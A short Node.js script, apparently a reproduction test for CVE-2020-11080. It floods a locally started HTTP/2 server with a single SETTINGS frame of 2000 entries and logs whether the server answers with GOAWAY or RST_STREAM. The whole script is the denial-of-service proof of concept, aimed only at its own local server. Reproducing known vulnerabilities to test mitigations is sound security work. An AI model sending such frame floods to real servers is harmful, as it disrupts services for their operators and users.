// One SETTINGS frame with thousands of entries (CVE-2020-
// 11080): each is legal, each is work.
// The limit: 32 entries a frame.
const http2 = require('http2');
const net = require('net');
const { frame, preface, read } = require('framewise');

// The honest end: a server that answers everything.
const server = http2.createServer();
server.on('stream', (stream) => {
  stream.on('error', () => {});
  stream.respond({ ':status': 200 });
  stream.end('hello');
});
server.on('sessionError', (e) => console.log('server:', e.message));
server.listen(80);

// The other end speaks by hand.
const peer = net.connect(80);
read(peer, (f) => {
  if (f.type === 'SETTINGS' && !(f.flags & 1)) peer.write(frame.settingsAck());
  if (f.type === 'GOAWAY' || f.type === 'RST_STREAM')
    console.log('peer got', f.type, f.code, f.debug || '');
});
peer.write(Buffer.concat([preface, frame.settings()]));
const list = [];
for (let i = 0; i < 2000; i++) list.push(['initialWindowSize', i]);
peer.write(frame.settings(list));
